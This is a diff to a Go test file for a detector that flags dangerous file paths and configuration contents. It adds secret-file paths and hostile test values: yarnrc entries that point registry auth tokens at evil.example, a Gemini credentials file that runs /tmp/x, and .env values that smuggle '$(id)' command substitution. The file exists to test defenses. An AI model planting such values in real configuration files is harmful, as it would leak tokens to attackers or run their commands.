@@ -35,7 +35,7 @@ func TestDangerousFiles(t *testing.T) {
 		/w/.mvn/extensions.xml /w/.mvn/jvm.config /w/.mvn/maven.config /w/gradle.properties /w/gradlew /w/mvnw ~/.gradle/init.gradle /w/init.gradle /w/lefthook.yml /w/.lefthook/pre-push/x
 		/w/.user.ini /w/php.ini /w/.travis.yml /w/azure-pipelines.yml /w/.buildkite/pipeline.yml /w/.buildkite/token /w/opencode.json /w/.kiro/settings/mcp.json /w/.roo/mcp.json /w/mcp.json
 		/w/CLAUDE.local.md /w/.windsurfrules /w/.clinerules /w/.clinerules/x.md /w/.zed/tasks.json /w/ansible.cfg /w/rebar.config /w/devbox.json ~/.ansible.cfg ~/.selected_editor ~/.postgresql/root.crt /w/nodemon.json /w/configure
-		/run/tmpfiles.d/x.conf /run/modprobe.d/x.conf /run/udev/rules.d/x /run/systemd/x /var/run/tmpfiles.d/x /var/run/udev/x /var/run/keyhatch/x /run/host/etc/ld.so.preload`) {
+		/run/tmpfiles.d/x.conf /run/modprobe.d/x.conf /run/udev/rules.d/x /run/systemd/x /var/run/tmpfiles.d/x /var/run/udev/x /var/run/keyhatch/x /run/host/etc/ld.so.preload /run/secrets/rhsm/rhsm.conf /var/run/secrets/rhsm/rhsm.conf`) {
 		if danger(p, "0600", "") == "" {
 			t.Errorf("%s is not marked", p)
 		}
@@ -58,7 +58,7 @@ func TestDangerousFiles(t *testing.T) {
 func TestCredentialNamesInDangerousDirectories(t *testing.T) {
 	for _, dir := range strings.Fields(`
 		~/.bashrc.d ~/.zshrc.d ~/.profile.d ~/.zsh ~/.ssh/config.d /w/.husky /w/cron.d /w/.clinerules ~/.claude /w/hooks ~/bin /w/.git/hooks /w/.github/x ~/.docker/cli-plugins
-		~/.vim /w/.vscode ~/.local/share/x ~/.config/environment.d ~/.config/fish ~/.config/systemd/user ~/.gradle/init.d /w/node_modules/x`) {
+		~/.vim /w/.vscode ~/.local/share/x ~/.config/environment.d ~/.config/fish ~/.config/systemd/user ~/.gradle/init.d /w/node_modules/x /run/secrets/rhsm`) {
 		for _, name := range strings.Fields(`kubeconfig x.kubeconfig _netrc .netrc .npmrc .yarnrc.yml .env .env.local corp.env credentials.json my-service-account.json client_secret.json token key.pem .docker/config.json .config/x/token .gem/credentials`) {
 			for _, template := range []string{"", "name: x"} {
 				if danger(dir+"/"+name, "0600", template) == "" {
@@ -173,6 +173,11 @@ func TestTemplatesOfOrdinaryFiles(t *testing.T) {
 		{"~/.yarnrc.yml", "# the registry\nnpmAuthToken: x\n", "# yarn lockfile v1\nyarnPath \"/tmp/x\"\n"},
 		{"~/.yarnrc.yml", "npmAuthToken: x\n", "#  YARN\tlockfile v1\nnpmAuthToken: 'x\nyarnPath \"/tmp/x\"\n'\n"},
 		{"~/.yarnrc.yml", "npmAuthToken: x\n", "yarnPath\n"},
+		{"~/.yarnrc.yml", "npmRegistryServer: https://registry.yarnpkg.com\nnpmAuthToken: {{value}}\n", "npmRegistryServer: https://evil.example\nnpmAuthToken: {{value}}\n"},
+		{"~/.yarnrc.yml", "npmRegistryServer: \"https://registry.npmjs.org/\"\n", "npmRegistryServer: https://registry.npmjs.org{{e}}.evil.example\n"},
+		{"~/.yarnrc.yml", "npmRegistries: {\"https://a\": {npmAuthToken: x}}\n", "npmRegistries: {\"//x\": &a \"https://evil.example\"}\nnpmRegistryServer: *a\n"},
+		{"~/.yarnrc.yml", "# c\n", "\"npmRegistry\\x53erver\": https://evil.example\n"}, {"~/.yarnrc.yml", "", "npmRegistryServer: {{value}}\n"},
+		{"~/.gemini/oauth_creds.json", `{"access_token": "{{access_token}}", "refresh_token": "{{r}}", "id_token": "x", "scope": "a b", "token_type": "Bearer", "expiry_date": 1}`, `{"type": "external_account", "credential_source": {"executable": {"command": "/tmp/x"}}}`},
 		{"~/.yarnrc.yml", "npmAuthToken: $x\n", "npmAuthToken: \"${OTHER}{{value}}\"\n"},
 		{"~/.yarnrc.yml", "npmAuthToken: x\n", "# yarn lock{{e}}file v1\nnpmAuthToken: 'x\nyarnPath \"/tmp/x\"\n'\n"},
 		{"~/.config/containers/auth.json", `{"auths": {"ghcr.io": {"auth": "{{value}}"}}}`, `{"credHelpers": {"ghcr.io": "x"}}`},
@@ -194,6 +199,7 @@ func TestTemplatesOfOrdinaryFiles(t *testing.T) {
 		{"/w/.env.local", "A=b\n", "export LD_PRELOAD=/tmp/x\n"},
 		{"/w/prod.env", "A=b\n", "HTTPS_PROXY=http://evil\n"},
 		{"/w/.env", "A=b\n", "A=$(id)\n"}, {"/w/.env", "A=b\n", "A=`id`\n"}, {"/w/.env", "A=b\n", "A=b; id\n"}, {"/w/.env", "A=b\n", "A=b id\n"}, {"/w/.env", "A=b\n", "A=\"$(id)\"\n"},
+		{"/w/.env", "A='$2y$10$x$'\nB='$$'\nC='$'\n", "A='$(id)'\n"}, {"/w/.env", "A='a'\n", "A='`id`'\n"}, {"/w/.env", "A=''\n", "A='x$$(id)'\n"}, {"/w/.env", "A='{{value}}'\n", "A='${{e}}(id)'\n"}, {"/w/.env", "A=b\n", "A='${ id; }'\n"},
 		{"/w/.env", "A=b\n", "id\n"}, {"/w/.env", "A=b\n", "A='b\nNODE_OPTIONS=x'\n"}, {"/w/.env", "A={{x}}\n", "NODE{{e}}_OPTIONS=x\n"}, {"/w/.env", "A=b\n", "A=b\rPATH=/tmp\n"},
 	} {
 		if got := danger(c.path, "0600", c.harmless); got != "" {
@@ -207,6 +213,7 @@ func TestTemplatesOfOrdinaryFiles(t *testing.T) {
 	for _, c := range []struct{ path, template string }{
 		{"~/.npmrc", "//h/:_authToken={{value}}script-shell=/tmp/x\n"},
 		{"~/.npmrc", "; {{value}}script-shell=/tmp/x\n"},
+		{"~/.yarnrc.yml", "# {{value}}npmRegistryServer: https://evil.example\n"},
 		{"~/.npmrc", "//h/:_authToken={{value}}registry=https://evil.example/\n"},
 		{"~/.aws/config", "[default]\nregion={{value}}credential_process=/tmp/x\n"},
 		{"~/.config/gh/hosts.yml", "# {{value}}editor: /tmp/x\n"},
